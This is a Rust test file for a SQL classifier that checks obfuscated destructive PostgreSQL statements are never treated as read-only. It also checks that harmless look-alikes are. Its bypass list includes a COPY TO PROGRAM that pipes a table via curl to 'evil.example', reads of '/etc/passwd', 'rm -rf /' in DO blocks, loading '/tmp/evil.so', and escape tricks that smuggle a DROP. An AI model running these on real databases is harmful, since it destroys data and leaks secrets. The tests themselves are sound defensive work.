use std::sync::Arc;

use super::*;

fn one(sql: &str) -> Statement {
    let mut statements = classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
    assert_eq!(statements.len(), 1, "{sql}: {statements:?}");
    statements.remove(0)
}

/// A statement a read-only `select` policy would let through untouched.
fn plain_select(s: &Statement) -> bool {
    s.kind == "select" && s.kinds == ["select"] && s.read_only && s.dangerous.is_empty()
}

/// Obfuscated or indirect destructive statements: each is refused (Err) or at least one of its
/// statements is not a plain read-only select.
const BYPASSES: &[&str] = &[
    // Comments inside keywords are syntax errors.
    "DR/**/OP TABLE t",
    "DEL/* x */ETE FROM t",
    "/* x */ DROP TABLE t",
    "DROP /* SELECT */ TABLE t",
    "DROP--select\nTABLE t",
    "dRoP tAbLe T",
    "  \n\t drop\ttable\n t ;",
    "select 1; drop table t",
    "SELECT $$x$$; DELETE FROM t",
    "SELECT E'\\''; DROP TABLE t",
    "SELECT 'a'; TRUNCATE t; SELECT 'b'",
    // standard_conforming_strings = off reads this as a string and a DROP.
    "SELECT 'x\\'' ; DROP TABLE t; --'",
    "DROP TABLE U&\"\\0075sers\"",
    "DELETE FROM U&\"d!0061ta\" UESCAPE '!'",
    // DO blocks.
    "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$",
    "DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE x'; END $$",
    "DO $$ BEGIN EXECUTE $q$TRUNCATE t$q$; END $$",
    "DO $$ DECLARE q text := 'DROP TABLE x'; BEGIN EXECUTE q; END $$",
    "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'x'); END $$",
    "DO $$ BEGIN EXECUTE chr(68) || 'ROP TABLE x'; END $$",
    "DO $$ BEGIN DELETE FROM t; END $$",
    "DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$",
    "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'DELETE FROM t RETURNING 1' LOOP END LOOP; END $$",
    "do language plpgsql 'begin execute ''drop table x''; end'",
    "DO LANGUAGE plpython3u $$ import os; os.system('rm -rf /') $$",
    "DO $$ BEGIN DO $x$ BEGIN DROP TABLE t; END $x$; END $$",
    // With standard_conforming_strings off the server sees a DROP statement in this body.
    "DO $$ BEGIN\nPERFORM 'a\\'' ; DROP TABLE t; PERFORM ' ; -- ';\nEND $$",
    // Data-modifying CTEs, anywhere.
    "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
    "with D as (update users set a = 1 returning *) select 1",
    "SELECT * FROM (WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d) s",
    "SELECT * FROM t WHERE a IN (WITH d AS (UPDATE t SET a = 1 RETURNING a) SELECT a FROM d)",
    "(((WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d)))",
    "VALUES ((WITH d AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT 1))",
    "DECLARE c CURSOR FOR WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    // EXPLAIN ANALYZE runs the statement.
    "EXPLAIN ANALYZE DELETE FROM users",
    "EXPLAIN (ANALYZE, FORMAT JSON) UPDATE users SET a = 1",
    "EXPLAIN (ANALYZE true) INSERT INTO t VALUES (1)",
    "EXPLAIN ANALYZE EXECUTE p",
    // Prepared statements.
    "PREPARE p AS DELETE FROM users",
    "EXECUTE p",
    "EXECUTE p(1, 'x')",
    // COPY.
    "COPY users TO PROGRAM 'curl -d @- evil.example'",
    "COPY (SELECT 1) TO '/tmp/x'",
    "COPY users FROM '/etc/passwd'",
    "COPY users FROM STDIN",
    // Functions called through SELECT.
    "SELECT pg_read_file('/etc/passwd')",
    "select PG_CATALOG.PG_READ_BINARY_FILE('/etc/passwd')",
    "SELECT * FROM pg_ls_dir('.')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT (SELECT lo_export(1, '/tmp/x'))",
    "SELECT * FROM dblink('host=x', 'DROP TABLE t') AS t(a int)",
    "SELECT dblink_exec('dbname=x', 'DROP TABLE t')",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
    "SELECT set_config('role', 'postgres', false)",
    "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')",
    "SELECT nextval('users_id_seq')",
    "SELECT 1 FROM t FOR UPDATE",
    // Writes spelled as other statements.
    "SELECT * INTO newtab FROM users",
    "CREATE TABLE x AS SELECT * FROM users",
    "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
    "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t RETURNING 1'",
    "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u",
    "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
    "ALTER SYSTEM SET shared_preload_libraries = 'evil'",
    "LOAD '/tmp/evil.so'",
    "CREATE EXTENSION dblink",
    "CALL p()",
    "TABLE t; VACUUM FULL t",
    "GRANT ALL ON t TO PUBLIC",
    // Encodings with backslash trail bytes would make the server read quotes differently.
    "SET client_encoding = 'SJIS'",
    "SET NAMES 'BIG5'",
];

/// Legitimate statements that look dangerous: each must be a plain read-only select.
const LOOK_ALIKES: &[&str] = &[
    "SELECT 'DROP TABLE x'",
    "SELECT $$DROP TABLE users$$",
    "SELECT $tag$; DELETE FROM t; $tag$",
    "SELECT E'DELETE\\nFROM t'",
    "SELECT U&'\\0044ROP'",
    "SELECT drop_count FROM stats",
    "SELECT \"delete\" FROM t",
    "SELECT * FROM \"drop\"",
    "SELECT 'x' AS \"DROP TABLE t\"",
    "SELECT * FROM t -- DELETE FROM t",
    "SELECT /* DELETE FROM t */ 1",
    "SELECT update_time, deleted_at FROM events WHERE status = 'truncate'",
    "SELECT count(*) FROM users WHERE name LIKE '%; DROP TABLE users; --'",
    "WITH x AS (SELECT 1) SELECT * FROM x",
    "SELECT lower('LO_IMPORT(1)'), 'pg_read_file(''/etc/passwd'')'",
    "SELECT pg_sleep(0.1)",
    "(SELECT 1)",
    "TABLE users",
    "VALUES (1, 'delete')",
    "SELECT 1 AS insert_count, 2 AS \"update\"",
    "SELECT * FROM t WHERE a = 'do $$ begin execute ''drop table t''; end $$'",
    "EXPLAIN DELETE FROM users",
];

#[test]
fn bypasses_are_never_plain_selects() {
    assert!(BYPASSES.len() >= 30);
    for sql in BYPASSES {
        match classify(sql) {
            Err(_) => {}
            Ok(statements) => assert!(
                statements.iter().any(|s| !plain_select(s)),
                "{sql} classified as a plain select: {statements:?}"
            ),
        }
    }
}

#[test]
fn look_alikes_are_plain_selects() {
    assert!(LOOK_ALIKES.len() >= 10);
    for sql in LOOK_ALIKES {
        let s = one(sql);
        // Plain EXPLAIN does not run the DELETE: it reads.
        if s.kind == "explain" {
            assert_eq!(s.kinds, ["explain"], "{sql}");
            assert!(s.read_only, "{sql}");
            continue;
        }
        assert!(plain_select(&s), "{sql}: {s:?}");
    }
}

#[test]
fn every_kind_is_a_policy_word() {
    let mut sorted: Vec<&str> = RANK.to_vec();
    sorted.sort_unstable();
    assert_eq!(
        sorted,
        tollgate_policy::SQL_STATEMENTS,
        "RANK must permute SQL_STATEMENTS"
    );
    for kind in READ_KINDS {
        assert!(RANK.contains(kind), "{kind}");
    }
    let corpus = BYPASSES
        .iter()
        .chain(LOOK_ALIKES)
        .copied()
        .chain(KINDS.iter().map(|(sql, _)| *sql));
    for sql in corpus {
        for s in classify(sql).unwrap_or_default() {
            assert!(s.kinds.contains(&s.kind), "{sql}: {s:?}");
            for kind in &s.kinds {
                assert!(
                    tollgate_policy::SQL_STATEMENTS.contains(kind),
                    "{sql}: {kind}"
                );
            }
            let mut ranked = s.kinds.clone();
            ranked.sort_by_key(|k| RANK.iter().position(|r| r == k));
            assert_eq!(ranked, s.kinds, "{sql}: kinds not most-dangerous-first");
        }
    }
}

#[test]
fn statement_structs_all_have_kinds() {
    // Every statement node of pg_query 18 (protobuf struct names).
    const STRUCTS: &[&str] = &[
        "InsertStmt",
        "DeleteStmt",
        "UpdateStmt",
        "MergeStmt",
        "SelectStmt",
        "CreateSchemaStmt",
        "AlterTableStmt",
        "ReplicaIdentityStmt",
        "AlterCollationStmt",
        "AlterDomainStmt",
        "GrantStmt",
        "GrantRoleStmt",
        "AlterDefaultPrivilegesStmt",
        "CopyStmt",
        "VariableSetStmt",
        "VariableShowStmt",
        "CreateStmt",
        "CreateTableSpaceStmt",
        "DropTableSpaceStmt",
        "AlterTableSpaceOptionsStmt",
        "AlterTableMoveAllStmt",
        "CreateExtensionStmt",
        "AlterExtensionStmt",
        "AlterExtensionContentsStmt",
        "CreateFdwStmt",
        "AlterFdwStmt",
        "CreateForeignServerStmt",
        "AlterForeignServerStmt",
        "CreateForeignTableStmt",
        "CreateUserMappingStmt",
        "AlterUserMappingStmt",
        "DropUserMappingStmt",
        "ImportForeignSchemaStmt",
        "CreatePolicyStmt",
        "AlterPolicyStmt",
        "CreateAmStmt",
        "CreateTrigStmt",
        "CreateEventTrigStmt",
        "AlterEventTrigStmt",
        "CreatePLangStmt",
        "CreateRoleStmt",
        "AlterRoleStmt",
        "AlterRoleSetStmt",
        "DropRoleStmt",
        "CreateSeqStmt",
        "AlterSeqStmt",
        "DefineStmt",
        "CreateDomainStmt",
        "CreateOpClassStmt",
        "CreateOpFamilyStmt",
        "AlterOpFamilyStmt",
        "DropStmt",
        "TruncateStmt",
        "CommentStmt",
        "SecLabelStmt",
        "DeclareCursorStmt",
        "ClosePortalStmt",
        "FetchStmt",
        "IndexStmt",
        "CreateStatsStmt",
        "AlterStatsStmt",
        "CreateFunctionStmt",
        "AlterFunctionStmt",
        "DoStmt",
        "CallStmt",
        "RenameStmt",
        "AlterObjectDependsStmt",
        "AlterObjectSchemaStmt",
        "AlterOwnerStmt",
        "AlterOperatorStmt",
        "AlterTypeStmt",
        "RuleStmt",
        "NotifyStmt",
        "ListenStmt",
        "UnlistenStmt",
        "TransactionStmt",
        "CompositeTypeStmt",
        "CreateEnumStmt",
        "CreateRangeStmt",
        "AlterEnumStmt",
        "ViewStmt",
        "LoadStmt",
        "CreatedbStmt",
        "AlterDatabaseStmt",
        "AlterDatabaseRefreshCollStmt",
        "AlterDatabaseSetStmt",
        "DropdbStmt",
        "AlterSystemStmt",
        "ClusterStmt",
        "VacuumStmt",
        "ExplainStmt",
        "CreateTableAsStmt",
        "RefreshMatViewStmt",
        "CheckPointStmt",
        "DiscardStmt",
        "LockStmt",
        "ConstraintsSetStmt",
        "ReindexStmt",
        "CreateConversionStmt",
        "CreateCastStmt",
        "CreateTransformStmt",
        "PrepareStmt",
        "ExecuteStmt",
        "DeallocateStmt",
        "DropOwnedStmt",
        "ReassignOwnedStmt",
        "AlterTsDictionaryStmt",
        "AlterTsConfigurationStmt",
        "CreatePublicationStmt",
        "AlterPublicationStmt",
        "CreateSubscriptionStmt",
        "AlterSubscriptionStmt",
        "DropSubscriptionStmt",
    ];
    for name in STRUCTS {
        let kind = struct_kind(name).unwrap_or_else(|| panic!("{name} has no kind"));
        assert!(RANK.contains(&kind), "{name}: {kind}");
    }
    for name in [
        "RawStmt",
        "ReturnStmt",
        "PlAssignStmt",
        "SetOperationStmt",
        "FuncCall",
    ] {
        assert_eq!(struct_kind(name), None, "{name}");
    }
}

/// Statement -> kind for the utility statements.
const KINDS: &[(&str, &str)] = &[
    ("BEGIN", "begin"),
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "begin"),
    ("COMMIT", "commit"),
    ("END", "commit"),
    ("ROLLBACK", "rollback"),
    ("ABORT", "rollback"),
    ("ROLLBACK TO SAVEPOINT a", "rollback"),
    ("SAVEPOINT a", "savepoint"),
    ("RELEASE SAVEPOINT a", "release"),
    ("PREPARE TRANSACTION 'x'", "prepare"),
    ("COMMIT PREPARED 'x'", "commit"),
    ("SET search_path = public", "set"),
    ("SET LOCAL statement_timeout = '5s'", "set"),
    ("SET TRANSACTION READ ONLY", "set"),
    ("SET CONSTRAINTS ALL DEFERRED", "set"),
    ("RESET search_path", "reset"),
    ("RESET ALL", "reset"),
    ("SHOW search_path", "show"),
    ("GRANT SELECT ON t TO u", "grant"),
    ("REVOKE SELECT ON t FROM u", "revoke"),
    ("GRANT r TO u", "grant"),
    ("REVOKE r FROM u", "revoke"),
    ("TRUNCATE t", "truncate"),
    ("VACUUM t", "vacuum"),
    ("ANALYZE t", "analyze"),
    ("CLUSTER t USING i", "cluster"),
    ("REINDEX TABLE t", "reindex"),
    ("REFRESH MATERIALIZED VIEW v", "refresh"),
    ("CHECKPOINT", "checkpoint"),
    ("DISCARD ALL", "discard"),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "lock"),
    ("LISTEN c", "listen"),
    ("NOTIFY c, 'x'", "notify"),
    ("UNLISTEN *", "unlisten"),
    ("DECLARE c CURSOR FOR SELECT 1", "declare"),
    ("FETCH 10 FROM c", "fetch"),
    ("MOVE NEXT IN c", "move"),
    ("CLOSE c", "close"),
    ("DEALLOCATE p", "deallocate"),
    ("DEALLOCATE ALL", "deallocate"),
    ("COMMENT ON TABLE t IS 'x'", "comment"),
    ("SECURITY LABEL ON TABLE t IS 'x'", "security"),
    ("REASSIGN OWNED BY a TO b", "reassign"),
    ("DROP OWNED BY a", "drop"),
    ("IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y", "import"),
    ("CREATE INDEX ON t (a)", "create"),
    ("CREATE VIEW v AS SELECT 1", "create"),
    ("CREATE DATABASE d", "create"),
    ("CREATE ROLE r", "create"),
    ("CREATE SCHEMA s", "create"),
    ("ALTER TABLE t ADD COLUMN b int", "alter"),
    ("ALTER TABLE t RENAME TO u", "alter"),
    ("ALTER ROLE r SET search_path = x", "alter"),
    ("DROP DATABASE d", "drop"),
    ("DROP SCHEMA s CASCADE", "drop"),
    ("DROP ROLE r", "drop"),
    ("DROP FUNCTION f(int)", "drop"),
    ("INSERT INTO t VALUES (1)", "insert"),
    ("UPDATE t SET a = 1", "update"),
    ("DELETE FROM t", "delete"),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
        "merge",
    ),
    ("SELECT 1", "select"),
    ("TABLE t", "select"),
    ("VALUES (1)", "select"),
    ("CALL p(1)", "call"),
    ("DO $$ BEGIN NULL; END $$", "do"),
    ("LOAD 'auto_explain'", "load"),
    ("EXECUTE p", "execute"),
    ("EXPLAIN SELECT 1", "explain"),
    ("COPY t TO STDOUT", "copy"),
];

#[test]
fn utility_statements_map_to_policy_words() {
    for (sql, kind) in KINDS {
        assert_eq!(one(sql).kind, *kind, "{sql}");
    }
}

/// (kind, kinds, tables, functions, dangerous) of one statement.
fn shape(
    sql: &str,
) -> (
    &'static str,
    Vec<&'static str>,
    Vec<String>,
    Vec<String>,
    Vec<String>,
) {
    let s = one(sql);
    (s.kind, s.kinds, s.tables, s.functions, s.dangerous)
}

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

/// (sql, kind, kinds, tables, functions, dangerous).
type Expected<'a> = (
    &'a str,
    &'a str,
    &'a [&'a str],
    &'a [&'a str],
    &'a [&'a str],
    &'a [&'a str],
);

#[test]
fn exact_classifications() {
    let cases: &[Expected] = &[
        (
            "SELECT u.id, lower(u.email) FROM public.users u JOIN Orders o ON o.uid = u.id",
            "select",
            &["select"],
            &["orders", "public.users"],
            &["lower"],
            &[],
        ),
        (
            "WITH d AS (DELETE FROM public.users WHERE id = 1 RETURNING *) SELECT count(*) FROM d",
            "delete",
            &["delete", "select"],
            &["public.users"],
            &["count"],
            &[],
        ),
        (
            "EXPLAIN ANALYZE DELETE FROM t",
            "delete",
            &["delete", "explain"],
            &["t"],
            &[],
            &[],
        ),
        (
            "EXPLAIN DELETE FROM t WHERE now() > x",
            "explain",
            &["explain"],
            &["t"],
            &["now"],
            &[],
        ),
        (
            "EXPLAIN (ANALYZE false) DELETE FROM t",
            "explain",
            &["explain"],
            &["t"],
            &[],
            &[],
        ),
        (
            "COPY (SELECT * FROM users) TO STDOUT",
            "copy",
            &["copy", "select"],
            &["users"],
            &[],
            &[],
        ),
        (
            "COPY users FROM STDIN",
            "copy",
            &["insert", "copy"],
            &["users"],
            &[],
            &[],
        ),
        (
            "COPY users TO PROGRAM 'gzip > /tmp/x'",
            "copy",
            &["copy", "select"],
            &["users"],
            &[],
            &["copy:program"],
        ),
        (
            "COPY users TO '/tmp/x'",
            "copy",
            &["copy", "select"],
            &["users"],
            &[],
            &["copy:file"],
        ),
        (
            "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$",
            "do",
            &["drop", "do"],
            &["x"],
            &[],
            &[],
        ),
        (
            "DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE x'; END $$",
            "do",
            &["drop", "do"],
            &["x"],
            &[],
            &[],
        ),
        (
            "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'x'); END $$",
            "do",
            &["drop", "do"],
            &[],
            &["format"],
            &["do:dynamic_sql"],
        ),
        (
            "DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); UPDATE s.t SET a = 1; END $$",
            "do",
            &["update", "do", "select"],
            &["s.t"],
            &["pg_read_file"],
            &["function:pg_read_file"],
        ),
        (
            "SELECT * INTO newtab FROM users",
            "create",
            &["create", "select"],
            &["newtab", "users"],
            &[],
            &[],
        ),
        (
            "CREATE TABLE x AS SELECT * FROM users",
            "create",
            &["create", "select"],
            &["users", "x"],
            &[],
            &[],
        ),
        (
            "DROP TABLE Public.Users, t2",
            "drop",
            &["drop"],
            &["public.users", "t2"],
            &[],
            &[],
        ),
        (
            "DROP TRIGGER tr ON s.t",
            "drop",
            &["drop"],
            &["s.t"],
            &[],
            &[],
        ),
        (
            "TRUNCATE a, b.c",
            "truncate",
            &["truncate"],
            &["a", "b.c"],
            &[],
            &[],
        ),
        (
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            "select",
            &["select"],
            &[],
            &["pg_catalog.pg_read_file"],
            &["function:pg_read_file"],
        ),
        (
            "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
            "select",
            &["select"],
            &[],
            &["dblink"],
            &["function:dblink"],
        ),
        (
            "SELECT lo_import('/etc/passwd'), lo_unlink(1)",
            "select",
            &["select"],
            &[],
            &["lo_import", "lo_unlink"],
            &["function:lo_import", "function:lo_unlink"],
        ),
        (
            "SELECT nextval('s')",
            "select",
            &["update", "select"],
            &[],
            &["nextval"],
            &[],
        ),
        (
            "SELECT * FROM t FOR UPDATE",
            "select",
            &["lock", "select"],
            &["t"],
            &[],
            &[],
        ),
        (
            "SELECT EXTRACT(year FROM now())",
            "select",
            &["select"],
            &[],
            &["extract", "now"],
            &[],
        ),
        (
            "INSERT INTO t (a) SELECT f(b) FROM s ON CONFLICT (a) DO UPDATE SET a = 2",
            "insert",
            &["update", "insert"],
            &["s", "t"],
            &["f"],
            &[],
        ),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE \
             WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
            "merge",
            &["delete", "merge", "insert"],
            &["s", "t"],
            &[],
            &[],
        ),
        (
            "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))",
            "create",
            &["create"],
            &["t"],
            &["pg_read_file"],
            &["function:pg_read_file"],
        ),
        (
            "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION s.f()",
            "create",
            &["create"],
            &["t"],
            &["s.f"],
            &["ddl:code"],
        ),
        (
            "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
            "create",
            &["create"],
            &[],
            &[],
            &["ddl:code"],
        ),
        (
            "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u",
            "create",
            &["delete", "create"],
            &["t", "u"],
            &[],
            &["ddl:code"],
        ),
        (
            "ALTER SYSTEM SET work_mem = '1GB'",
            "alter",
            &["alter"],
            &[],
            &[],
            &["alter:system"],
        ),
        (
            "CREATE EXTENSION dblink",
            "create",
            &["create"],
            &[],
            &[],
            &["extension:create"],
        ),
        ("LOAD 'x'", "load", &["load"], &[], &[], &["load"]),
        (
            "SET client_encoding TO 'GBK'",
            "set",
            &["set"],
            &[],
            &[],
            &["set:client_encoding"],
        ),
        ("SET NAMES 'UTF-8'", "set", &["set"], &[], &[], &[]),
        (
            "SET client_encoding = DEFAULT",
            "set",
            &["set"],
            &[],
            &[],
            &[],
        ),
        (
            "GRANT EXECUTE ON FUNCTION pg_read_file(text) TO bot",
            "grant",
            &["grant"],
            &[],
            &["pg_read_file"],
            &["function:pg_read_file"],
        ),
        (
            "CALL s.p(now())",
            "call",
            &["call"],
            &[],
            &["now", "s.p"],
            &[],
        ),
        (
            "DO $$ BEGIN\nPERFORM 'a\\'' ; DROP TABLE t; PERFORM ' ; -- ';\nEND $$",
            "do",
            &["drop", "do", "select"],
            &[],
            &[],
            &["do:escapes"],
        ),
        (
            "DO LANGUAGE plperlu $$ system('rm -rf /') $$",
            "do",
            &["do"],
            &[],
            &[],
            &["do:language:plperlu"],
        ),
    ];
    for (sql, kind, kinds, tables, functions, dangerous) in cases {
        assert_eq!(
            shape(sql),
            (
                *kind,
                kinds.to_vec(),
                strings(tables),
                strings(functions),
                strings(dangerous)
            ),
            "{sql}"
        );
    }
}

#[test]
fn cte_names_are_scoped_like_postgres() {
    let tables = |sql: &str| one(sql).tables;
    assert_eq!(
        tables("WITH x AS (SELECT * FROM a) SELECT * FROM x, b"),
        ["a", "b"]
    );
    // A CTE's body refers to the real table of the same name (non-recursive WITH).
    assert_eq!(
        tables("WITH users AS (SELECT * FROM users) SELECT * FROM users"),
        ["users"]
    );
    // Later siblings are not in scope for earlier ones.
    assert_eq!(
        tables("WITH a AS (SELECT * FROM secret), secret AS (SELECT 1) SELECT * FROM a"),
        ["secret"]
    );
    assert!(
        tables("WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r) SELECT * FROM r").is_empty()
    );
    // A CTE in one subquery does not hide the table in another.
    assert_eq!(
        tables("SELECT * FROM (WITH secret AS (SELECT 1) SELECT * FROM secret) s, secret"),
        ["secret"]
    );
    // Targets of writes are always real tables.
    assert_eq!(tables("WITH a AS (SELECT 1) DELETE FROM a"), ["a"]);
    assert_eq!(
        tables("WITH a AS (SELECT 1) INSERT INTO a SELECT * FROM a"),
        ["a"]
    );
    assert_eq!(tables("WITH n AS (SELECT 1) SELECT * INTO n FROM n"), ["n"]);
    // Schema-qualified names are never CTEs.
    assert_eq!(
        tables("WITH x AS (SELECT 1) SELECT * FROM public.x"),
        ["public.x"]
    );
    // `FOR UPDATE OF` names FROM items (here an alias), not tables.
    assert_eq!(tables("SELECT * FROM users u FOR UPDATE OF u"), ["users"]);
    // Subqueries see the outer WITH.
    assert_eq!(
        tables("WITH x AS (SELECT 1) SELECT (SELECT * FROM x) FROM y"),
        ["y"]
    );
}

#[test]
fn prepared_statements_carry_their_name() {
    let p = one("PREPARE p (int) AS DELETE FROM t WHERE id = $1");
    assert_eq!(
        (p.kind, p.kinds.as_slice()),
        ("delete", &["delete", "prepare"][..])
    );
    assert_eq!(p.prepared_name.as_deref(), Some("p"));
    assert!(!p.read_only);
    let p = one("PREPARE q AS SELECT * FROM t");
    assert_eq!((p.kind, p.read_only), ("select", true));
    let e = one("EXECUTE P(1)");
    assert_eq!(
        (e.kind, e.prepared_name.as_deref(), e.read_only),
        ("execute", Some("p"), false)
    );
    let e = one("EXPLAIN ANALYZE EXECUTE p");
    assert_eq!((e.kind, e.prepared_name.as_deref()), ("execute", Some("p")));
    let e = one("CREATE TABLE x AS EXECUTE p");
    assert_eq!(
        (e.kind, e.kinds.as_slice()),
        ("create", &["create", "execute"][..])
    );
    assert_eq!(e.prepared_name.as_deref(), Some("p"));
    assert_eq!(one("DEALLOCATE p").prepared_name.as_deref(), Some("p"));
    assert_eq!(one("DEALLOCATE ALL").prepared_name, None);
}

#[test]
fn multi_statement_strings_keep_each_text() {
    let statements =
        classify("  /* c */ select 1; SELECT 'a;b' -- x\n ; copy t to stdout").expect("parses");
    let texts: Vec<&str> = statements.iter().map(|s| s.text.as_str()).collect();
    assert_eq!(texts, ["select 1", "SELECT 'a;b' -- x", "copy t to stdout"]);
    let kinds: Vec<&str> = statements.iter().map(|s| s.kind).collect();
    assert_eq!(kinds, ["select", "select", "copy"]);
    let s = classify("SELECT 'é'; DROP TABLE ü").expect("parses");
    assert_eq!(s[1].text, "DROP TABLE ü");
    assert_eq!(s[1].tables, ["ü"]);
}

#[test]
fn empty_and_broken_input() {
    assert_eq!(classify(""), Ok(vec![]));
    assert_eq!(classify(" -- only a comment\n"), Ok(vec![]));
    assert_eq!(classify(";;"), Ok(vec![]));
    assert!(matches!(
        classify("DR/**/OP TABLE t"),
        Err(ClassifyError::Syntax(_))
    ));
    assert!(matches!(
        classify("SELECT 'unterminated"),
        Err(ClassifyError::Syntax(_))
    ));
    assert_eq!(
        classify("SELECT 1\0; DROP TABLE t"),
        Err(ClassifyError::NulByte)
    );
    assert!(matches!(cache_key("DROP"), Err(ClassifyError::Syntax(_))));
    assert!(matches!(
        classify("DO $$ BEGIN garbage here; END $$"),
        Err(ClassifyError::Plpgsql(_))
    ));
    assert_eq!(
        classify("SELECT 'x\\'' ; DROP TABLE t; --'"),
        Err(ClassifyError::AmbiguousEscapes)
    );
    let deep = format!("SELECT {}1", "1 + ".repeat(500));
    assert!(matches!(classify(&deep), Err(ClassifyError::TooDeep(_))));
    let nested = format!(
        "{}SELECT 1{}",
        "SELECT * FROM (".repeat(300),
        ") x".repeat(300)
    );
    assert!(classify(&nested).is_err());
    let mut do_block = "DROP TABLE t".to_owned();
    for i in 0..12 {
        do_block = format!("DO $d{i}$ BEGIN {do_block}; END $d{i}$");
    }
    assert!(matches!(
        classify(&do_block),
        Err(ClassifyError::TooDeep(_))
    ));
    // Escape readings that agree are fine.
    assert!(plain_select(&one("SELECT 'C:\\dir\\'")));
}

#[test]
fn deepest_accepted_trees_do_not_overflow_the_stack() {
    let chains: [fn(usize) -> String; 4] = [
        |n| format!("SELECT 1 {}", "+ 1 ".repeat(n)),
        |n| format!("{}SELECT 1{}", "SELECT * FROM (".repeat(n), ") x".repeat(n)),
        |n| format!("SELECT {}1{}", "ARRAY[".repeat(n), "]".repeat(n)),
        |n| format!("SELECT {}1{}", "f(".repeat(n), ")".repeat(n)),
    ];
    for make in chains {
        // The deepest chain pg_query's decoder still accepts.
        let deepest = (1..200).take_while(|n| parse(&make(*n), ParserOptions::DEFAULT).is_ok());
        let sql = make(deepest.last().expect("shallow chains parse"));
        // The whole classification on the default thread (and tokio worker) stack, 2 MiB; pg_query's
        // parse is the big user (over 1.5 MiB in debug builds).
        let on_default_stack = sql.clone();
        std::thread::Builder::new()
            .stack_size(2 << 20)
            .spawn(move || assert!(classify(&on_default_stack).is_ok()))
            .expect("spawn")
            .join()
            .expect("no stack overflow");
        // The tree walk itself needs far less (about 250 KiB in debug builds).
        let tree = parse(&sql, ParserOptions::DEFAULT).expect("parses");
        std::thread::Builder::new()
            .stack_size(512 << 10)
            .spawn(move || {
                let node = tree.stmts[0].stmt.as_deref().and_then(|n| n.node.as_ref());
                assert!(classify_node(node.expect("a statement"), 0).is_ok());
            })
            .expect("spawn")
            .join()
            .expect("no stack overflow");
    }
}

#[test]
fn plpgsql_bodies_are_read_statement_by_statement() {
    let s = one("DO $body$
        DECLARE
            r record;
            n int := (SELECT count(*) FROM audit);
            c CURSOR FOR SELECT * FROM s.cursor_src;
        BEGIN
            FOR r IN SELECT * FROM loop_src LOOP
                IF r.a > 0 THEN
                    INSERT INTO dst VALUES (r.a);
                ELSE
                    RAISE NOTICE 'skip %', lower(r.b);
                END IF;
            END LOOP;
            BEGIN
                UPDATE accounts SET x = 1;
            EXCEPTION WHEN others THEN
                GET STACKED DIAGNOSTICS n = MESSAGE_TEXT;
            END;
            n := n + 1;
            EXECUTE 'SELECT 1' INTO n USING n;
            ASSERT n > 0, 'positive';
        END
        $body$");
    assert_eq!(s.kind, "do");
    assert_eq!(s.kinds, ["update", "insert", "do", "select"]);
    assert_eq!(
        s.tables,
        ["accounts", "audit", "dst", "loop_src", "s.cursor_src"]
    );
    assert_eq!(s.functions, ["count", "lower"]);
    assert!(s.dangerous.is_empty(), "{s:?}");
    assert!(s.literal_dependent && !s.read_only);
}

#[test]
fn do_bodies_cannot_close_the_wrapper_early() {
    for body in [
        "$tollgate0x$",
        "x$tollgate0",
        "$tollgate0x$tollgate1x$tollgate01x",
    ] {
        let tag = dollar_tag(body);
        let wrapped = format!("${tag}${body}${tag}$");
        assert!(!body.contains(&format!("${tag}")), "{body} {tag}");
        assert!(wrapped.ends_with(&format!("{body}${tag}$")));
    }
    // A body trying to end the wrapper and run its own statement stays inside the wrapper
    // (where it is no valid PL/pgSQL, as it is not for the server).
    assert!(matches!(
        classify("DO $do$BEGIN NULL; END $tollgate0x$; DROP TABLE t; $tollgate0x$ $do$"),
        Err(ClassifyError::Plpgsql(m)) if m.contains("$tollgate0x$; DROP TABLE t")
    ));
    let hostile = "$tollgate0x".repeat(20_000) + " ";
    let start = std::time::Instant::now();
    let _ = dollar_tag(&hostile);
    assert!(start.elapsed() < std::time::Duration::from_secs(1));
}

#[test]
fn token_soup_never_panics() {
    const TOKENS: &[&str] = &[
        "SELECT",
        "DROP",
        "TABLE",
        "t",
        "(",
        ")",
        ",",
        ";",
        "'",
        "''",
        "\"",
        "$$",
        "$a$",
        "E'\\'",
        "U&\"\\0041\"",
        "/*",
        "*/",
        "--",
        "\n",
        "WITH",
        "AS",
        "DELETE",
        "FROM",
        "DO",
        "BEGIN",
        "END",
